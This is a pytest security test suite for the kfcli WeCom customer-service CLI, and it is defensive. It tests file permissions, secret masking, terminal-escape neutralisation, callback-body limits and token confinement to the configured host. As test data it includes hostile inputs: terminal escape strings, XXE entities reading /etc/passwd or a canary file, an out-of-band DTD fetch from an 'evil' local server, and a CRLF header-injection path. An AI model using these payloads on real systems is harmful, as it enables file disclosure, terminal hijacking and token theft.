"""Security review (issue 6), one test per property:

* files with secrets are 0600 in 0700 directories after real use;
* the secret, access tokens, the callback Token and the EncodingAESKey never appear in any
  output, `--debug` traces and error paths included;
* hostile text from the API (markup, ANSI and OSC escapes, C1 controls, bidi overrides,
  newlines, tabs) cannot drive a terminal or break TSV records;
* the callback receiver refuses oversized and malformed bodies and never expands XML entities;
* `kfcli api` sends the token only to the configured base URL.
"""

from __future__ import annotations

import http.client
import io
import json
import os
import shutil
import signal
import sqlite3
import stat
import subprocess
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlencode

import pytest
import requests

from tests.cli.test_callback_serve import ENV as CALLBACK_ENV
from tests.cli.test_callback_serve import Receiver, event_xml, wecom_post
from tests.conftest import on_pty
from tests.core.test_crypto import (
    AES_KEY,
    BILLION_LAUGHS,
    RECEIVE_ID,
    TOKEN,
    XXE,
    ref_encrypt,
    ref_signature,
)

#: Everything a hostile nickname, account name or message can carry at a terminal.
HOSTILE = ("[bold red]Eve[/bold red]\x1b[31mred\x1b]0;pwned\x07\x1b]8;;http://evil/\x1b\\"
           "link\ttab\nline2\r\u202egnp.exe\x9b2J\x7fend")
#: Sequences that must never reach a terminal from that text.
FORBIDDEN = ("\x1b[31m", "\x1b]", "\x07", "\u202e", "\x9b", "\x7f")


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def cached_tokens(home: Path) -> set[str]:
    return {json.loads(p.read_text())["access_token"]
            for p in (home / "cache").rglob("*.json")}


class Recorder(ThreadingHTTPServer):
    """A host the user did not configure: records every request it gets."""

    daemon_threads = True

    def __init__(self, handler=None) -> None:
        self.hits: list[str] = []
        super().__init__(("127.0.0.1", 0), handler or _RecordingHandler)
        threading.Thread(target=self.serve_forever, kwargs={"poll_interval": 0.05},
                         daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_port}"

    def close(self) -> None:
        self.shutdown()
        self.server_close()


class _RecordingHandler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:  # noqa: N802 (stdlib name)
        self.server.hits.append(self.path)
        self._answer(200, b'{"errcode": 0, "errmsg": "ok"}')

    do_POST = do_GET

    def _answer(self, status: int, body: bytes, headers: dict[str, str] | None = None) -> None:
        self.send_response(status)
        for key, value in {"Content-Type": "application/json", **(headers or {})}.items():
            self.send_header(key, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args) -> None:
        pass


@pytest.fixture
def evil():
    server = Recorder()
    yield server
    server.close()


# ---------------------------------------------------------------------- file modes


def test_files_are_0600_in_0700_directories_after_real_use(run, kf, sandbox, home):
    env = sandbox.env
    assert run("config", "set", "corp_id", env["KFCLI_CORP_ID"]).code == 0
    assert run("config", "set", "secret", input=env["KFCLI_SECRET"] + "\n").code == 0
    assert run("config", "set", "base_url", env["KFCLI_BASE_URL"]).code == 0
    assert run("config", "set", "aes_key", input=sandbox.creds["aes_key"] + "\n").code == 0
    assert run("account", "list").code == 0  # caches a token (and takes the lock)
    open_kfid = sandbox.account()
    sandbox.say(open_kfid, "hi")
    assert run("msg", "sync", open_kfid).code == 0  # the store, its locks, a run journal
    assert run("msg", "sync", open_kfid, "-o", "table").code == 0  # the direct path
    config = home / "config" / "config.json"
    tokens = list((home / "cache").rglob("*.json"))
    locks = list((home / "cache").rglob("*.lock"))
    states = [p for p in (home / "state").rglob("*") if p.is_file()]
    assert len(tokens) == 1 and len(locks) == 1
    suffixes = {p.suffix for p in states}
    assert ".db" in suffixes and suffixes <= {".db", ".db-wal", ".db-shm", ".lock",
                                              ".journal"}, suffixes
    for path in [config, *tokens, *locks, *states]:
        assert mode(path) == 0o600, (path, oct(mode(path)))
        assert mode(path.parent) == 0o700, (path.parent, oct(mode(path.parent)))
    leftovers = [p for p in home.rglob("*") if p.name.endswith(".tmp")]
    assert leftovers == []


def test_a_loose_config_directory_is_tightened(run, home):
    directory = home / "config"
    directory.mkdir(parents=True, mode=0o755)
    directory.chmod(0o755)
    assert run("config", "set", "corp_id", "ww1").code == 0
    assert mode(directory) == 0o700 and mode(directory / "config.json") == 0o600


def test_no_directory_kfcli_creates_is_writable_by_others_whatever_the_umask(run, sandbox,
                                                                             home):
    old = os.umask(0)
    try:
        assert run("config", "set", "corp_id", sandbox.creds["corp_id"]).code == 0
        env = sandbox.env
        assert run("account", "list", env=env).code == 0
        open_kfid = sandbox.account()
        sandbox.say(open_kfid, "hi")
        assert run("msg", "sync", open_kfid, env=env).code == 0
    finally:
        os.umask(old)
    created = [p for p in home.rglob("*") if p.is_dir()]
    assert created
    loose = [(str(p), oct(mode(p))) for p in created if mode(p) & 0o022]
    assert loose == []


# ---------------------------------------------------------------------- secrets in output


def test_secrets_and_tokens_never_appear_in_any_output(run, kf, sandbox, home, tmp_path,
                                                       evil):
    creds = sandbox.creds
    env = {**sandbox.env, "KFCLI_TOKEN": creds["token"], "KFCLI_AES_KEY": creds["aes_key"]}
    results = []

    def go(*args, expect=None, **kwargs):
        extra = kwargs.pop("env", {})
        r = run("--debug", *args, env={**env, **extra}, **kwargs)
        results.append((args, r))
        if expect is not None:
            assert r.code == expect, (args, r.code, r.err)
        return r

    open_kfid = sandbox.account()
    customer = sandbox.say(open_kfid, "hello")
    message = tmp_path / "event.xml"
    message.write_bytes(event_xml("tok", open_kfid, creds["corp_id"]))
    # successes
    go("config", "set", "secret", input=creds["secret"] + "\n", expect=0)
    go("config", "set", "token", input=creds["token"] + "\n", expect=0)
    go("config", "set", "aes_key", input=creds["aes_key"] + "\n", expect=0)
    go("config", "show", expect=0)
    go("config", "show", "-o", "json", expect=0)
    go("config", "list", expect=0)
    go("config", "get", "secret", expect=0)
    go("auth", "status", expect=0)
    go("auth", "status", "-o", "json", expect=0)
    go("auth", "token", expect=0)
    go("auth", "token", "--refresh", "-o", "json", expect=0)
    go("account", "list", "-o", "json", expect=0)
    go("msg", "send", open_kfid, customer, "--text", "hi", expect=0)
    go("msg", "sync", open_kfid, "-o", "jsonl", expect=0)
    go("customer", "get", customer, expect=0)
    go("api", "POST", "/cgi-bin/kf/account/list", "-F", "limit=10", expect=0)
    go("doctor", "-o", "json", expect=0)
    go("doctor", expect=0)
    go("callback-verify", "encrypt", str(message), expect=0)
    go("callback-verify", "encrypt", str(message), "-o", "json", expect=0)
    # failures
    go("account", "delete", "wkNope", "--yes", expect=4)
    go("customer", "get", "wmNope", "-o", "json", expect=4)
    go("msg", "send", open_kfid, "wmNobody", "--text", "hi")
    go("api", "GET", f"{evil.url}/cgi-bin/kf/account/list", expect=2)
    go("api", "GET", "/cgi-bin/kf/servicer/list", "-f", "open_kfid=wkNope")
    go("callback-verify", "url", "--msg-signature", "0" * 40, "--timestamp", "1",
       "--nonce", "2", "--echostr", "QUJD", expect=5)
    sandbox.fault(fault="http_status", status=500, path="/cgi-bin/kf/servicer/add")
    go("servicer", "add", open_kfid, "user001", expect=6)
    sandbox.fault(fault="errcode", errcode=45009, path="/cgi-bin/kf/account/list", times=10)
    go("account", "list", "-o", "json", expect=7)
    requests.delete(sandbox.base_url + "/sandbox/faults", timeout=10)
    old_tokens = cached_tokens(home)
    sandbox.fault(fault="expire_tokens")  # the rejected token is traced, then a new one
    go("account", "list", expect=0)
    go("auth", "token", expect=3, env={"KFCLI_SECRET": "wrong-secret-0123456789"})
    go("account", "list", expect=6, env={"KFCLI_BASE_URL": "http://127.0.0.1:9",
                                         "KFCLI_SECRET": "unreachable-secret-987654"})
    go("api", "GET", "/cgi-bin/kf/x y")  # an internal error: the --debug traceback is shown
    tokens = old_tokens | cached_tokens(home)
    assert len(tokens) >= 2
    secrets = [creds["secret"], creds["token"], creds["aes_key"], "wrong-secret-0123456789",
               "unreachable-secret-987654", *tokens]
    assert any("> GET" in r.err or "> POST" in r.err for _, r in results)  # traces were on
    for args, r in results:
        for secret in secrets:
            assert secret not in r.out, (args, "stdout", secret)
            assert secret not in r.err, (args, "stderr", secret)


def test_debug_trace_of_gettoken_masks_the_query(kf, sandbox):
    r = kf("--debug", "auth", "token", "--refresh")
    assert r.code == 0
    line = next(x for x in r.err.splitlines() if "/cgi-bin/gettoken" in x)
    assert "corpsecret=****" in line and sandbox.creds["secret"] not in r.err


# ---------------------------------------------------------------------- hostile text


@pytest.fixture
def hostile(sandbox, tmp_path):
    """An account, a customer and a message, all carrying HOSTILE text."""
    open_kfid = sandbox.account("x")
    customer = sandbox.say(open_kfid, HOSTILE)
    # The simulator checks account names (16 characters) and derives nicknames from ids, as
    # WeCom would; what WeCom returns is still not under kfcli's control, so plant the text in
    # the simulator's database directly.
    db = sqlite3.connect(tmp_path / "sandbox.db")
    try:
        with db:
            db.execute("UPDATE accounts SET name = ? WHERE open_kfid = ?", (HOSTILE, open_kfid))
            db.execute("UPDATE customers SET nickname = ? WHERE external_userid = ?",
                       (HOSTILE, customer))
    finally:
        db.close()
    return open_kfid, customer


def _assert_inert(screen: str) -> None:
    for seq in FORBIDDEN:
        assert seq not in screen, (seq, screen)


@pytest.mark.process
def test_hostile_text_cannot_drive_a_terminal(sandbox, home, hostile):
    open_kfid, customer = hostile
    for args in (["account", "list"], ["customer", "get", customer], ["msg", "sync", open_kfid],
                 ["--debug", "account", "list"]):
        screen = on_pty(args, sandbox.env)
        assert "[bold red]Eve[/bold red]" in screen, (args, screen)  # literal, not markup
        _assert_inert(screen)


@pytest.mark.process
def test_json_on_a_terminal_escapes_c1_controls_and_bidi(sandbox, home, hostile):
    screen = on_pty(["account", "list", "--json"], sandbox.env)
    _assert_inert(screen)


def test_hostile_text_keeps_tsv_one_record_per_line(kf, sandbox, hostile):
    open_kfid, customer = hostile
    r = kf("account", "list")
    lines = r.out.splitlines()
    assert len(lines) == 1
    fields = lines[0].split("\t")
    assert len(fields) == 4 and fields[0] == open_kfid
    assert "\\t" in fields[1] and "\\n" in fields[1] and "\\r" in fields[1]
    r = kf("customer", "get", customer)
    lines = r.out.splitlines()
    assert len(lines) == 1 and len(lines[0].split("\t")) == 6
    r = kf("msg", "sync", open_kfid, "-o", "tsv")
    lines = r.out.splitlines()
    assert len(lines) == 1 and len(lines[0].split("\t")) == 8
    for out in (r.out, kf("account", "list").out, kf("customer", "get", customer).out):
        _assert_inert(out)
        assert "\x1b" not in out and "\r" not in out


def test_json_keeps_hostile_text_exactly(kf, sandbox, hostile):
    open_kfid, customer = hostile
    assert kf("account", "list", "--json").json()[0]["name"] == HOSTILE
    doc = kf("customer", "get", customer, "--json").json()
    assert doc["customer_list"][0]["nickname"] == HOSTILE
    lines = kf("msg", "sync", open_kfid, "-o", "jsonl").out.splitlines()
    assert json.loads(lines[0])["text"]["content"] == HOSTILE


# ---------------------------------------------------------------------- callback receiver


@pytest.fixture
def receiver(home):
    procs: list[subprocess.Popen] = []

    def start() -> Receiver:
        kfcli = shutil.which("kfcli")
        cmd = [kfcli] if kfcli else [sys.executable, "-m", "kfcli"]
        proc = subprocess.Popen([*cmd, "callback", "serve", "--port", "0"],
                                env={**os.environ, **CALLBACK_ENV}, stdout=subprocess.PIPE,
                                stderr=subprocess.PIPE, stdin=subprocess.DEVNULL, text=True)
        procs.append(proc)
        return Receiver(proc)

    yield start
    for proc in procs:
        if proc.poll() is None:
            proc.send_signal(signal.SIGTERM)
            proc.wait(timeout=10)


def signed(body_encrypt: str, nonce: str = "n1") -> str:
    ts = str(int(time.time()))
    return urlencode({"msg_signature": ref_signature(TOKEN, ts, nonce, body_encrypt),
                      "timestamp": ts, "nonce": nonce})


def outer(encrypt: str) -> bytes:
    return (f"<xml><ToUserName><![CDATA[{RECEIVE_ID}]]></ToUserName><Encrypt><![CDATA["
            f"{encrypt}]]></Encrypt></xml>").encode()


@pytest.mark.process
def test_receiver_refuses_oversized_malformed_and_entity_bodies(receiver, tmp_path, evil):
    rx = receiver()
    valid_query, valid_body = wecom_post(event_xml("T1", "wk1"))
    canary = tmp_path / "canary.txt"
    canary.write_text("CANARY-7f3a")

    def sealed(inner: bytes) -> tuple[str, bytes]:
        """A correctly signed and encrypted callback whose *inner* message is `inner`."""
        encrypt = ref_encrypt(AES_KEY, inner, RECEIVE_ID.encode(), prefix=os.urandom(16))
        return signed(encrypt), outer(encrypt)

    inner_laughs = sealed(BILLION_LAUGHS.replace(b"<Encrypt>", b"<Token>")
                          .replace(b"</Encrypt>", b"</Token>"))
    inner_xxe = sealed(f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM '
                       f'"file://{canary}">]><xml><Token>&e;</Token></xml>'.encode())
    inner_oob = sealed(f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM '
                       f'"{evil.url}/evil.dtd"> %p;]><xml><Token>t</Token></xml>'.encode())
    inner_deep = sealed(b"<xml>" + b"<a>" * 500 + b"</a>" * 500 + b"</xml>")
    garbage_encrypt = "not*base64*at*all"
    cases = [
        (valid_query, b"<xml><Encrypt>" + b"A" * (64 * 1024) + b"</Encrypt></xml>", 413),
        (valid_query, b"A" * (512 * 1024), 413),
        (valid_query, BILLION_LAUGHS, 400),
        (valid_query, XXE, 400),
        (valid_query, XXE.replace(b"file:///etc/passwd", f"{evil.url}/x".encode()), 400),
        (valid_query, b"\x00\xff\xfe garbage", 400),
        (valid_query, b"<xml><Encrypt>", 400),
        (valid_query, b"", 400),
        (valid_query, b"<xml>" * 1000 + b"</xml>" * 1000, 400),
        (signed(garbage_encrypt), outer(garbage_encrypt), 400),
        (*inner_laughs, 400),
        (*inner_xxe, 400),
        (*inner_oob, 400),
        (*inner_deep, 400),
    ]
    for query, body, expected in cases:
        status, data, _ = rx.request("POST", query, body)
        assert status == expected, (body[:60], status)
        assert data == b""
    # no Content-Length at all (a chunked body under the standard library's server)
    conn = http.client.HTTPConnection(rx.host, rx.port, timeout=10)
    conn.putrequest("POST", "/?" + valid_query)
    conn.putheader("Transfer-Encoding", "chunked")
    conn.endheaders()
    conn.send(b"5\r\n<xml>\r\n0\r\n\r\n")
    assert conn.getresponse().status in (400, 411)
    conn.close()
    for bad_length in ("-1", "abc"):
        conn = http.client.HTTPConnection(rx.host, rx.port, timeout=10)
        conn.putrequest("POST", "/?" + valid_query)
        conn.putheader("Content-Length", bad_length)
        conn.endheaders()
        assert conn.getresponse().status == 400
        conn.close()
    assert rx.out.empty()  # nothing hostile was emitted
    assert evil.hits == []  # no external entity or DTD was fetched
    # still serving
    assert rx.request("POST", valid_query, valid_body)[:2] == (200, b"success")
    assert rx.record()["Token"] == "T1"
    err = rx.drain_err()
    assert "CANARY-7f3a" not in err and "Traceback" not in err
    assert TOKEN not in err and AES_KEY not in err


def test_wsgi_app_bounds_what_it_reads():
    """Under any WSGI server: a lying Content-Length or an endless chunked body is cut off."""
    from kfcli.callback import MAX_BODY, make_app

    seen: list[dict] = []
    app = make_app(TOKEN, AES_KEY, RECEIVE_ID, on_event=seen.append)

    class Endless(io.RawIOBase):
        read_total = 0

        def read(self, size: int = -1) -> bytes:
            size = 65536 if size is None or size < 0 else size
            self.read_total += size
            return b"A" * size

    def call(environ: dict) -> str:
        status: list[str] = []
        environ = {"REQUEST_METHOD": "POST", "QUERY_STRING": "msg_signature=x&timestamp=1&"
                   "nonce=2", **environ}
        b"".join(app(environ, lambda s, h: status.append(s)))
        return status[0]

    stream = Endless()
    assert call({"wsgi.input": stream, "CONTENT_LENGTH": str(10**12)}).startswith("413")
    assert stream.read_total <= 2 * 1024 * 1024
    stream = Endless()
    assert call({"wsgi.input": stream, "wsgi.input_terminated": True}).startswith("413")
    assert stream.read_total <= MAX_BODY + 65536
    assert call({"wsgi.input": Endless()}).startswith("411")
    assert seen == []


# ---------------------------------------------------------------------- kfcli api


@pytest.mark.parametrize("target", [
    "{evil}/cgi-bin/kf/account/list",
    "https://qyapi.example.com/cgi-bin/kf/account/list",
    "{base}@{evil_host}/cgi-bin/kf/account/list",
    "http://localhost:{port}/cgi-bin/kf/account/list",
    "https://127.0.0.1:{port}/cgi-bin/kf/account/list",
    "HTTP://{evil_host}/cgi-bin/kf/account/list",
])
def test_api_refuses_absolute_urls_to_other_hosts(kf, sandbox, evil, target):
    port = sandbox.base_url.rsplit(":", 1)[1]
    url = target.format(evil=evil.url, evil_host=evil.url.split("//", 1)[1], port=port,
                        base=sandbox.base_url)
    kf("auth", "token")
    before = sandbox.stats()
    r = kf("--debug", "api", "GET", url)
    assert r.code == 2, r.err
    assert "refusing to send the access token" in r.err and "Traceback" not in r.err
    assert evil.hits == []
    assert sandbox.stats() == before  # nothing sent anywhere


def test_api_sends_only_to_the_configured_host(kf, sandbox, evil):
    r = kf("api", "GET", f"{sandbox.base_url}/cgi-bin/kf/servicer/list", "-f",
           "open_kfid=" + sandbox.account())
    assert r.code == 0, r.err  # the configured base URL itself, written out, is fine
    # A scheme-relative path is still a path on the configured host.
    kf("api", "GET", "//" + evil.url.split("//", 1)[1] + "/cgi-bin/kf/account/list")
    assert evil.hits == []


def test_api_does_not_follow_redirects_to_other_hosts(run, evil):
    class Redirecting(_RecordingHandler):
        def do_GET(self) -> None:  # noqa: N802
            if self.path.startswith("/cgi-bin/gettoken"):
                self._answer(200, b'{"errcode": 0, "access_token": "REDIRTOKEN123456", '
                                  b'"expires_in": 7200}')
            else:
                self._answer(302, b"", {"Location": evil.url + self.path})

        do_POST = do_GET

    gateway = Recorder(Redirecting)
    try:
        env = {"KFCLI_BASE_URL": gateway.url, "KFCLI_CORP_ID": "ww1",
               "KFCLI_SECRET": "redirect-secret-1234"}
        for method in ("GET", "POST"):
            r = run("api", method, "/cgi-bin/kf/account/list", env=env)
            assert r.code != 0 and "Traceback" not in r.err
            assert "REDIRTOKEN123456" not in r.text and "redirect-secret-1234" not in r.text
    finally:
        gateway.close()
    assert evil.hits == []


def test_api_rejects_paths_with_control_characters_as_usage_errors(kf, sandbox, evil):
    for path in ("/cgi-bin/kf/account/list\r\nHost: evil", "/cgi-bin/kf/account list"):
        r = kf("api", "GET", path)
        assert r.code == 2, r.err
        assert "internal error" not in r.err
    assert evil.hits == []
